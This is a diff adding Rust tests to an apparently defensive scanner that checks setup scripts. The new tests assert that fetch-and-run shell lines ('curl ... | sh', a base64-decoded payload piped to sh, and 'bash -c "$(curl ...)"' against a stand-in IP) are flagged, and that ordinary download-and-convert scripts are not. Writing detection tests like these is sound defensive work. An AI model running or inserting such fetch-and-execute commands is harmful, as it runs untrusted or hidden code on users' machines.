@@ -359,3 +359,31 @@ fn trees_and_runtimes_that_lead_out_of_themselves_are_found() {
     assert_eq!(odd("pmml", OddityKind::Expansion), ["xml-entity-expansion"]);
     assert_eq!(odd("core-ml", OddityKind::PathTraversal), ["core-ml-path"]);
 }
+
+fn script(text: &str) -> (Vec<&'static str>, Verdict) {
+    let mut budget = wb_core::Budget::default();
+    let program = wb_code::shell::lift(text, wb_core::Trigger::Run, &mut budget);
+    let content = Content { programs: vec![program], ..Content::default() };
+    let examined = crate::examine(&artifact("setup.sh", "script"), &content, &mut budget);
+    (names(&examined), examined.verdict)
+}
+
+#[test]
+fn scripts_that_run_what_they_fetch_or_hide_are_found() {
+    let found = |verdict| (vec!["script-runs-fetched-code"], verdict);
+    let fetched = "#!/bin/sh\ncurl -s http://192.0.2.9/x | sh\n";
+    assert_eq!(script(fetched), found(Verdict::Suspicious));
+    assert_eq!(script("echo aWQ= | base64 -d | sh\n"), found(Verdict::Malicious));
+    assert_eq!(script("bash -c \"$(curl -fsSL http://192.0.2.9/x)\"\n"), found(Verdict::Suspicious));
+}
+
+#[test]
+fn scripts_that_download_and_convert_are_ordinary() {
+    for text in [
+        "set -e\ncurl -LO https://models.example/w.bin\npython convert.py --input w.bin\n",
+        "pip install -r requirements.txt\n",
+        "for f in *.bin; do gzip -d \"$f\"; done\n",
+    ] {
+        assert_eq!(script(text).0, [""; 0], "{text}");
+    }
+}
